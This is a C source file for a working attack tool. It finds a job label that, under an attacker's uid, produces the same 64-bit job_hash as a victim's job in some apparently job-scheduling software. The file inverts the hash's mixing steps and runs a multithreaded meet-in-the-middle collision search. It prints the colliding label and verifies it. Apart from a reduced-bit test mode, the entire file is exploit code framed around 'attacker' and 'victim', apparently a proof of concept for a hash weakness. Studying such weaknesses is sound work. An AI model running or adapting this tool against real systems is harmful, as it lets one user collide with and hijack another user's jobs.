/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Finds a job label of the attacker's that has the same 64-bit job_hash as a victim's.
 *
 * The job_hash (cw_job_hash()) absorbs uid and label byte by byte, each step a bijection of the
 * state. So we meet in the middle: forward from the attacker's uid over the first half of her
 * label, and backward from the victim's job_hash over the second half. Both halves give 64-bit
 * states. Two equal states among 2^32 of each half give the label. This needs no table of 2^32
 * entries: one function that goes forward or backward by a bit of its argument is iterated until
 * two walks run into each other (van Oorschot and Wiener, Parallel Collision Search, 1999). In
 * every second case the two arguments are of different halves. About 2^33 halves: minutes.
 *
 * --bits B searches the same construction with states of B bits: a test of the method in a moment.
 *
 * usage: label_collision [--bits B] [--threads N] [--prefix TEXT] VICTIM-UID VICTIM-LABEL UID
 * prints the label on one line; exit status 0.
 */
#include <errno.h>
#include <inttypes.h>
#include <pthread.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define JOB_HASH_INIT UINT64_C(0x636f6c6c77617463)
#define ADDED UINT64_C(0x9e3779b97f4a7c15)
#define FACTOR_1 UINT64_C(0xbf58476d1ce4e5b9)
#define FACTOR_2 UINT64_C(0x94d049bb133111eb)

#define BITS_PER_CHAR 6
#define MAX_HALF ((64 + BITS_PER_CHAR - 1) / BITS_PER_CHAR)
/* Walks side by side in one thread: their multiplications overlap. */
#define WALKS 64
#define MAX_THREADS 64
#define MAX_PREFIX 64
/* Ends of walks that are remembered: 2^(64 - 1) halves make some 2^17 of them. */
#define TABLE_BITS 22

static const char alphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/* ---- the hash, in `bits` bits ---- */

struct hash {
	unsigned bits, shift[3];
	uint64_t mask, inverse[2];
	uint64_t byte[256]; /* mix() of each */
};

static uint64_t inverse_of(uint64_t odd)
{
	uint64_t x = odd;

	for (int i = 0; i < 6; i++)
		x *= 2 - odd * x;
	return x;
}

static inline uint64_t mix(const struct hash *s, uint64_t x)
{
	x = (x + ADDED) & s->mask;
	x = ((x ^ (x >> s->shift[0])) * FACTOR_1) & s->mask;
	x = ((x ^ (x >> s->shift[1])) * FACTOR_2) & s->mask;
	return x ^ (x >> s->shift[2]);
}

/* Shifts are more than a third of the width: two terms undo them. */
static inline uint64_t unshift(uint64_t x, unsigned by)
{
	return x ^ (x >> by) ^ (x >> 2 * by);
}

static inline uint64_t unmix(const struct hash *s, uint64_t x)
{
	x = (unshift(x, s->shift[2]) * s->inverse[1]) & s->mask;
	x = (unshift(x, s->shift[1]) * s->inverse[0]) & s->mask;
	return (unshift(x, s->shift[0]) - ADDED) & s->mask;
}

static void hash_init(struct hash *s, unsigned bits)
{
	static const unsigned of_64[3] = { 30, 27, 31 };

	s->bits = bits;
	s->mask = bits == 64 ? UINT64_MAX : (UINT64_C(1) << bits) - 1;
	for (int i = 0; i < 3; i++)
		s->shift[i] = of_64[i] * bits / 64;
	s->inverse[0] = inverse_of(FACTOR_1);
	s->inverse[1] = inverse_of(FACTOR_2);
	for (unsigned c = 0; c < 256; c++)
		s->byte[c] = mix(s, c);
}

static uint64_t absorb(const struct hash *s, uint64_t h, const char *text)
{
	for (; *text; text++)
		h = mix(s, h ^ s->byte[(unsigned char)*text]);
	return h;
}

static uint64_t job_hash_of(const struct hash *s, uint64_t uid, const char *label)
{
	return absorb(s, mix(s, (JOB_HASH_INIT & s->mask) ^ mix(s, uid & s->mask)), label);
}

/* ---- halves ---- */

struct search {
	struct hash hash;
	uint64_t first, last; /* states after the attacker's prefix, and at the victim's end */
	unsigned n_half;      /* characters */
	uint64_t is_end_mask; /* a walk ends where these bits are 0 */
	pthread_mutex_t lock;
	struct walk_end {
		uint64_t end, start, n;
	} * table;
	bool is_done;
	uint64_t front, back; /* arguments of the two halves */
	unsigned n_threads;
};

static bool is_front(const struct search *s, uint64_t x)
{
	return x >> (s->hash.bits - 1) & 1;
}

static unsigned index_of(uint64_t x, unsigned i)
{
	return (unsigned)(x >> BITS_PER_CHAR * i) & ((1u << BITS_PER_CHAR) - 1);
}

static void half_text(const struct search *s, uint64_t x, char *to)
{
	for (unsigned i = 0; i < s->n_half; i++)
		to[i] = alphabet[index_of(x, i)];
	to[s->n_half] = '\0';
}

/* One step of each walk: all fronts together, then all backs. */
static void step_all(const struct search *s, uint64_t *x, unsigned n)
{
	uint64_t arg[WALKS], h[WALKS];
	unsigned place[WALKS], n_front = 0, n_back = n;

	for (unsigned i = 0; i < n; i++) {
		unsigned at = is_front(s, x[i]) ? n_front++ : --n_back;

		place[at] = i;
		arg[at] = x[i];
		h[at] = is_front(s, x[i]) ? s->first : s->last;
	}
	for (unsigned k = 0; k < s->n_half; k++)
		for (unsigned i = 0; i < n_front; i++)
			h[i] = mix(
				&s->hash,
				h[i] ^ s->hash.byte[(unsigned char)alphabet[index_of(arg[i], k)]]);
	for (unsigned k = s->n_half; k-- > 0;)
		for (unsigned i = n_front; i < n; i++)
			h[i] = unmix(&s->hash, h[i]) ^
			       s->hash.byte[(unsigned char)alphabet[index_of(arg[i], k)]];
	for (unsigned i = 0; i < n; i++)
		x[place[i]] = h[i];
}

/* Two walks with one end: where they meet, if it is in the middle of a label. */
static bool meet(const struct search *s, struct walk_end a, struct walk_end b, uint64_t *ret_front,
		 uint64_t *ret_back)
{
	uint64_t x = a.start, y = b.start;

	for (; a.n > b.n; a.n--)
		step_all(s, &x, 1);
	for (; b.n > a.n; b.n--)
		step_all(s, &y, 1);
	if (x == y)
		return false; /* one began on the other */
	for (;;) {
		uint64_t next[2] = { x, y };

		step_all(s, next, 2);
		if (next[0] == next[1])
			break;
		x = next[0];
		y = next[1];
	}
	*ret_front = is_front(s, x) ? x : y;
	*ret_back = is_front(s, x) ? y : x;
	return is_front(s, x) != is_front(s, y);
}

/* ---- the search ---- */

static uint64_t random_state(uint64_t *seed)
{
	struct hash h;

	hash_init(&h, 64);
	return mix(&h, ++*seed);
}

/* A place of the table holds one end: the newest. */
static void take_end(struct search *s, const struct walk_end *w)
{
	struct walk_end *known =
		&s->table[(w->end / (s->is_end_mask + 1)) & ((1u << TABLE_BITS) - 1)];
	uint64_t front, back;

	if (known->n && known->end == w->end && known->start != w->start &&
	    meet(s, *known, *w, &front, &back) && !s->is_done) {
		s->front = front;
		s->back = back;
		__atomic_store_n(&s->is_done, true, __ATOMIC_RELEASE);
	}
	*known = *w;
}

static void *run(void *arg)
{
	struct search *s = arg;
	uint64_t x[WALKS], start[WALKS], n[WALKS] = { 0 };
	uint64_t seed = __atomic_add_fetch(&s->n_threads, 1, __ATOMIC_RELAXED) * UINT64_C(1) << 48;
	/* A walk into a circle without an end never ends: it is given up. */
	uint64_t longest = 20 * (s->is_end_mask + 1);

	for (unsigned i = 0; i < WALKS; i++)
		x[i] = start[i] = random_state(&seed) & s->hash.mask;
	while (!__atomic_load_n(&s->is_done, __ATOMIC_ACQUIRE)) {
		step_all(s, x, WALKS);
		for (unsigned i = 0; i < WALKS; i++) {
			n[i]++;
			if (x[i] & s->is_end_mask && n[i] < longest)
				continue;
			if (!(x[i] & s->is_end_mask)) {
				struct walk_end w = { x[i], start[i], n[i] };

				(void)pthread_mutex_lock(&s->lock);
				take_end(s, &w);
				(void)pthread_mutex_unlock(&s->lock);
			}
			x[i] = start[i] = random_state(&seed) & s->hash.mask;
			n[i] = 0;
		}
	}
	return NULL;
}

static int search(struct search *s, unsigned n_threads)
{
	pthread_t threads[MAX_THREADS];

	for (unsigned i = 0; i < n_threads; i++)
		if (pthread_create(&threads[i], NULL, run, s) != 0)
			return -1;
	for (unsigned i = 0; i < n_threads; i++)
		(void)pthread_join(threads[i], NULL);
	return 0;
}

static int number(const char *text, unsigned long low, unsigned long high, unsigned long *ret)
{
	char *end;

	errno = 0;
	*ret = strtoul(text, &end, 10);
	return errno || *end || end == text || *ret < low || *ret > high ? -1 : 0;
}

static int usage(void)
{
	(void)fprintf(stderr, "usage: label_collision [--bits 16..64] [--threads N] "
			      "[--prefix TEXT] VICTIM-UID VICTIM-LABEL UID\n");
	return 2;
}

int main(int argc, char **argv)
{
	static struct search s = { .lock = PTHREAD_MUTEX_INITIALIZER };
	unsigned long bits = 64, threads = 2, victim, attacker;
	char label[MAX_PREFIX + 2 * MAX_HALF + 1];
	const char *prefix = "name:";
	int i = 1;

	for (; i + 1 < argc && !strncmp(argv[i], "--", 2); i += 2)
		if (!strcmp(argv[i], "--prefix"))
			prefix = argv[i + 1];
		else if (!strcmp(argv[i], "--bits")
				 ? number(argv[i + 1], 16, 64, &bits)
				 : strcmp(argv[i], "--threads") ||
					   number(argv[i + 1], 1, MAX_THREADS, &threads))
			return usage();
	if (argc - i != 3 || strlen(prefix) > MAX_PREFIX ||
	    number(argv[i], 0, UINT32_MAX, &victim) < 0 ||
	    number(argv[i + 2], 0, UINT32_MAX, &attacker) < 0)
		return usage();
	hash_init(&s.hash, (unsigned)bits);
	s.first = job_hash_of(&s.hash, attacker, prefix);
	s.last = job_hash_of(&s.hash, victim, argv[i + 1]);
	s.n_half = ((unsigned)bits + BITS_PER_CHAR - 1) / BITS_PER_CHAR;
	s.is_end_mask = (UINT64_C(1) << bits / 4) - 1;
	s.table = calloc(1u << TABLE_BITS, sizeof(*s.table));
	if (!s.table || search(&s, (unsigned)threads) < 0) {
		(void)fprintf(stderr, "label_collision: out of memory\n");
		return 1;
	}
	(void)snprintf(label, sizeof(label), "%s", prefix);
	half_text(&s, s.front, label + strlen(prefix));
	half_text(&s, s.back, label + strlen(label));
	free(s.table);
	if (job_hash_of(&s.hash, attacker, label) != s.last) {
		(void)fprintf(stderr, "label_collision: bug: %s has another job_hash\n", label);
		return 1;
	}
	(void)printf("%s\n", label);
	return 0;
}
